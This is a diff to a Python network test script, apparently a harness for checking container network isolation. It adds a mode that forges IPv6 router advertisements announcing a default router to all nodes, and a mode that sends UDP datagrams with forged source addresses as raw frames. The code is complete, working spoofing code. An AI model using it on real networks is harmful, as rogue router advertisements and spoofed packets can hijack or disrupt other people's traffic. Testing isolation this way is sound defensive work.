@@ -24,6 +24,11 @@
 #   attack.py nd --iface IF --dmac MAC --src ADDR6 --type ns|na --hlim N --tag TAG DST...
 #       one ICMPv6 neighbour solicitation/advertisement per DST (target =
 #       DST) with TAG as payload (an unknown ND option), sent as raw frames.
+#   attack.py ra --iface IF --src FE80ADDR [--lifetime S]
+#       a router advertisement (hop limit 255) from FE80ADDR to ff02::1
+#       announcing a default router for S seconds (default 1800).
+#   attack.py rawudp --iface IF --dmac MAC --src A --dst B --sport N --dport N --tag TAG
+#       one UDP datagram with any source (0.0.0.0, ::, forged) as a raw frame.
 #   attack.py bcast --tag TAG [--iface IF] [--timeout S] DST:PORT...
 #       UDP datagrams to broadcast/multicast (or any) addresses from one socket
 #       per family (SO_BROADCAST; ff02::/16 goes out IF); prints one line per
@@ -323,6 +328,35 @@ def nd(args):
     return 0
 
 
+# ------------------------------------------------------------------ ra, raw udp
+def ra(args):
+    # a router advertisement (type 134) from SRC (the container's fe80::)
+    # to ff02::1, hop limit 255: "I am a default router for 1800 s"
+    o, _ = opts(args, ("iface", "src", "lifetime"))
+    fr = Frames(o["iface"], "33:33:00:00:00:01")
+    src, dst = o["src"], "ff02::1"
+    life = int(o.get("lifetime", "1800"))
+    sll = struct.pack("!BB", 1, 1) + fr.src            # source link-layer address option
+    msg = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, life, 0, 0) + sll
+    c = csum(pseudo(src, dst, 58, len(msg)) + msg)
+    msg = msg[:2] + struct.pack("!H", c) + msg[4:]
+    fr.send(ip_packet(src, dst, 58, msg, 255))
+    print("sent router advertisement from %s lifetime %d" % (src, life))
+    return 0
+
+
+def rawudp(args):
+    # one UDP datagram with any source (0.0.0.0, ::, forged) to any
+    # destination, as a raw frame
+    o, _ = opts(args, ("iface", "dmac", "src", "dst", "sport", "dport", "tag"))
+    fr = Frames(o["iface"], o["dmac"])
+    src, dst = o["src"], o["dst"]
+    l4 = l4_udp(src, dst, int(o["sport"]), int(o["dport"]), o["tag"].encode())
+    fr.send(ip_packet(src, dst, 17, l4, 255 if is6(dst) else 64))
+    print("sent udp %s -> %s:%s" % (src, dst, o["dport"]))
+    return 0
+
+
 # ------------------------------------------------------------------ bcast
 def bcast(args):
     o, dsts = opts(args, ("iface", "timeout", "tag"))
@@ -507,7 +541,8 @@ def echo(args):
     return 0
 
 
-MODES = {"prime": prime, "nd": nd, "bcast": bcast, "flood": flood, "count": count, "echo": echo}
+MODES = {"prime": prime, "nd": nd, "ra": ra, "rawudp": rawudp, "bcast": bcast, "flood": flood,
+         "count": count, "echo": echo}
 
 
 def main():
